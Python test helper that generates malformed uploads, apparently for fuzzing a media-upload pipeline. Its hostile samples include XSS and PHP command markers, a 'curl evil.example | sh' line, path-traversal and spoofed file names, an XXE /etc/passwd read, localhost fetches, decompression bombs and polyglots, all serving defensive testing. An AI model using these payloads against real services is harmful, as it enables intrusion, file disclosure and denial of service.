"""Malformed uploads of every kind, by number: the same number gives the same file."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from PIL import Image
from tests.newsroom.library.conftest import run_ffmpeg, scene

MARK = b"<script>alert('7f3a-hostile')</script><?php system('id') ?>"
"""What must be in no file that is served."""

PAGE = b"<!doctype html><html><body>" + MARK + b"</body></html>"
FILMS, PICTURES = ("mp4", "webm", "mp3", "ogg"), ("jpg", "png", "webp", "avif", "gif")
NAMES = (
    "../../../etc/cron.d/x.{0}", "a.php.{0}", "..\\..\\x.{0}", "\u202egpj.{0}", "x" * 400 + ".{0}", ".{0}", " .{0}",
    "<img src=x onerror=alert(1)>.{0}", "a%00.{0}", "صورة\n.{0}", "CON.{0}", "a.{0}.html", "a.{0}.", "{0}",
)  # fmt: skip

Make = Callable[[random.Random], tuple[str, bytes]]


class Seeds:
    """One good file of each kind, small."""

    def __init__(self, folder: Path) -> None:
        run_ffmpeg(
            *("-f", "lavfi", "-i", "testsrc=s=64x36:r=10:d=0.8", "-f", "lavfi", "-i", "sine=440:d=0.8"),
            *("-c:v", "mpeg4", f"{folder}/a.mp4", "-c:v", "libvpx", "-deadline", "realtime", f"{folder}/a.webm"),
            *("-vn", f"{folder}/a.mp3", "-vn", f"{folder}/a.ogg"),
        )
        self.of = {ending: (folder / f"a.{ending}").read_bytes() for ending in FILMS}
        for ending, kind in zip(PICTURES, ("JPEG", "PNG", "WEBP", "AVIF", "GIF"), strict=True):
            self.of[ending] = picture(kind, 0)
        self.of["svg"] = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + MARK + b"</svg>"


def picture(kind: str, shade: int) -> bytes:
    data = io.BytesIO()
    scene((96, 64), shade).save(data, kind)
    return data.getvalue()


def mutated(content: bytes, chance: random.Random) -> bytes:
    """Torn in one to four ways; never the file it was."""
    torn = bytearray(content)
    for _time in range(chance.randint(1, 4)):
        at = chance.randrange(max(1, len(torn)))
        way = chance.randrange(7)
        if way == 0:
            torn[at : at + 1] = bytes([chance.randrange(256)])
        elif way == 1:
            del torn[at:]
        elif way == 2:
            torn[at:at] = chance.randbytes(chance.randint(1, 64))
        elif way == 3:
            torn[at : at + 4] = chance.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"\x80\0\0\0"))
        elif way == 4:
            del torn[at : at + chance.randint(1, 200)]
        elif way == 5:
            torn += torn[: chance.randint(1, 2000)]
        else:
            for spot in range(at, min(len(torn), at + 40)):
                torn[spot] ^= 1 << chance.randrange(8)
    return bytes(torn)


@cache
def zip_bomb() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as held:
        held.writestr("a", bytes(20_000_000))
    return data.getvalue()


@cache
def gzip_bomb() -> bytes:
    return gzip.compress(bytes(20_000_000), 1)


@cache
def _text_bomb() -> bytes:
    return zlib.compress(bytes(80_000_000), 1)


@cache
def png(width: int, height: int, rows: int) -> bytes:
    """A PNG of one tone that names any size, and has ``rows`` of them."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes(min(width // 8 + 1, 5_000) * rows), 1)
    text = chunk(b"tEXt", b"Comment\0" + MARK) + chunk(b"zTXt", b"x\0\0" + _text_bomb())
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + text + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _bomb(chance: random.Random) -> tuple[str, bytes]:
    side = chance.choice((40_000, 65_535, 2_000_000_000))
    jpeg = bytearray(picture("JPEG", 1))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", 40_000, 40_000)
    made: list[tuple[str, bytes]] = [
        ("a.png", png(side, side, 4)),
        ("a.png", png(15_000, 4_000, 4_000)),
        ("a.png", png(200, 100, 100)),
        ("a.jpg", bytes(jpeg)),
        ("a.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\0\0" + bytes(6) + b",\0\0\0\0" + b"\xff" * 90),
        (f"a.{chance.choice(PICTURES + FILMS)}", zip_bomb()),
        (f"a.{chance.choice((*FILMS, 'svgz'))}", gzip_bomb()),
        ("a.wav", b"RIFF\xff\xff\xff\xffWAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 65_535, 0, 0, 0, 64) + b"data" + b"\xff" * 99),
        ("a.mkv", b"\x1aE\xdf\xa3" + b"\xa3" * 20_000),
        ("a.mp4", struct.pack(">I", 1) + b"ftyp" + b"\xff" * 8 + b"moov" * 9_000),
        ("a.flac", b"fLaC\x80\xff\xff\xff" + bytes(64)),
    ]  # fmt: skip
    return chance.choice(made)


def _script(seeds: Seeds, chance: random.Random) -> tuple[str, bytes]:
    made = chance.choice(
        [
            b"#!/bin/sh\ncurl evil.example | sh\n", b"MZ\x90\0" + bytes(200), b"\x7fELF" + bytes(200), PAGE, b"",
            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", seeds.of["svg"],
            b"#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:9/secret\n", b"ffconcat version 1.0\nfile /etc/passwd\n",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
            b"<MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>", b"v=0\nc=IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n",
        ]
    )  # fmt: skip
    return f"a.{chance.choice((*PICTURES, *FILMS, 'svg', 'm4a', 'mkv', 'html', 'exe', 'php', ''))}", made


def _polyglot(seeds: Seeds, chance: random.Random) -> tuple[str, bytes]:
    ending = chance.choice(PICTURES + FILMS)
    good = seeds.of[ending]
    if ending == "jpg" and chance.random() < 0.5:  # in a comment, and a second time behind the picture
        return "a.jpg", good[:2] + b"\xff\xfe" + struct.pack(">H", len(PAGE) + 2) + PAGE + good[2:] + PAGE
    if ending in ("png", "webp") and chance.random() < 0.5:
        data = io.BytesIO()
        Image.open(io.BytesIO(good)).save(data, ending.upper(), exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0" + PAGE, xmp=PAGE)
        return f"a.{ending}", data.getvalue()
    other = chance.choice([PAGE, zip_bomb()[:3000], seeds.of[chance.choice(FILMS)], b"GIF89a/*" + MARK])
    named = ending if chance.random() < 0.7 else chance.choice(PICTURES + FILMS)
    return f"a.{named}", good + other if chance.random() < 0.8 else other + good


def hostile(number: int, seeds: Seeds) -> tuple[str, bytes]:
    """Name and bytes of a malformed upload."""
    chance = random.Random(number)
    way = chance.random()
    if way < 0.55:
        ending = chance.choice((*PICTURES[:4], *PICTURES[:4], *seeds.of))
        name, content = f"a.{ending}", mutated(seeds.of[ending], chance)
    elif way < 0.65:
        name, content = _bomb(chance)
    elif way < 0.80:
        name, content = _script(seeds, chance)
    else:
        name, content = _polyglot(seeds, chance)
    if chance.random() < 0.15:
        name = chance.choice(NAMES).format(name.rpartition(".")[2])
    return name, content
